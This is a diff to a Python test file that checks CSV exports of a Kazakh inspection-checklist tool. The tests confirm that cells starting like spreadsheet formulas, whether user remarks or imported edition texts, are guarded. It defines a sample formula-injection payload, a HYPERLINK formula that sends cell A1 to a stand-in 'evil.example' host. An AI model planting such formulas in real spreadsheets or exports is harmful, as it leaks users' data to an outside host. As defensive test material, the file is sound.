@@ -1,5 +1,5 @@
-"""CSV for spreadsheets: a cell a user wrote never runs as a formula; the law's texts
-and the IDs are written as they are."""
+"""CSV for spreadsheets: a cell a user wrote, or a text from an edition file, never runs
+as a formula; the bundled law's texts and the IDs are written as they are."""
 
 from __future__ import annotations
 
@@ -15,8 +15,11 @@ import kz_inspection_checklists as kz
 from kz_inspection_checklists.cli import main
 from kz_inspection_checklists.exports import export
 from kz_inspection_checklists.exports.csv_table import FORMULA_STARTS, guard_cell, unguard_cell
+from kz_inspection_checklists.exports.register import register_csv
+from kz_inspection_checklists.law.store import bundled
 from kz_inspection_checklists.record.files import dumps_record
 from kz_inspection_checklists.record.record import new_record
+from kz_inspection_checklists.record.register import LONG_COLUMNS, records_table
 
 ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
@@ -42,8 +45,44 @@ def test_any_other_remark_is_written_as_it_is(remark: str) -> None:
     assert rows(export(record, "csv"))[2]["remark"] == remark
 
 
-def test_the_laws_texts_and_ids_are_never_changed() -> None:
-    """Only user cells are guarded: a text that starts like a formula stays verbatim."""
+def _bundled_checklists() -> list[kz.Checklist]:
+    law = bundled()
+    return [
+        checklist
+        for edition in law.editions()
+        if edition.text_available
+        for language in edition.languages
+        for checklist in edition.in_language(language).checklists
+    ]
+
+
+def test_no_bundled_text_starts_like_a_formula_so_the_guard_never_alters_one() -> None:
+    """The guard applies to every text from an edition file; the bundled law's texts are
+    written verbatim, and none would be changed by it anyway."""
+    checked = 0
+    for checklist in _bundled_checklists():
+        texts = [r.text for r in checklist.requirements]
+        texts += [checklist.title, checklist.annex_caption, checklist.list_heading]
+        texts += [*checklist.columns, *(f.label for f in checklist.header_fields)]
+        for text in texts:
+            assert guard_cell(text) == text, text
+            checked += 1
+        record = new_record(checklist).mark(checklist.ids[0], "does-not-conform", "=2+2")
+        for subject in (checklist, record):
+            got = rows(export(subject, "csv"))
+            assert [(r["id"], r["text"]) for r in got] == [
+                (r.id, r.text) for r in checklist.requirements
+            ]
+        assert rows(export(record, "csv"))[0]["remark"] == "'=2+2"
+        table = records_table([record], long=True)
+        written = rows(register_csv(table, LONG_COLUMNS))
+        assert [r["text"] for r in written] == [r.text for r in checklist.requirements]
+    assert checked > 100  # every text of the bundled checklists
+
+
+def test_a_text_from_outside_the_bundle_that_starts_like_a_formula_is_guarded() -> None:
+    """0.1.0 wrote an imported edition's texts unguarded: "=HYPERLINK(...)" ran in a
+    spreadsheet. An edited or imported checklist's texts are a user's: guarded, as remarks."""
     checklist = kz.checklist("electronic-signature")
     texts = ("=1+1 " + checklist.requirements[0].text, "-" + checklist.requirements[1].text)
     requirements = tuple(
@@ -54,8 +93,11 @@ def test_the_laws_texts_and_ids_are_never_changed() -> None:
     record = new_record(odd).mark("EDS-001", "does-not-conform", "=2+2")
     for subject in (odd, record):
         got = rows(export(subject, "csv"))
-        assert [(r["id"], r["text"]) for r in got] == [(r.id, r.text) for r in requirements]
-    assert rows(export(record, "csv"))[0]["remark"] == "'=2+2"
+        assert [r["id"] for r in got] == list(checklist.ids)
+        assert [unguard_cell(r["text"]) for r in got] == [r.text for r in requirements]
+        assert [r["text"][:2] for r in got[:2]] == ["'=", "'-"]
+    table = records_table([record], long=True)
+    assert rows(register_csv(table, LONG_COLUMNS))[0]["text"] == "'" + texts[0]
 
 
 def test_export_record_from_the_command_line_guards_the_remark(
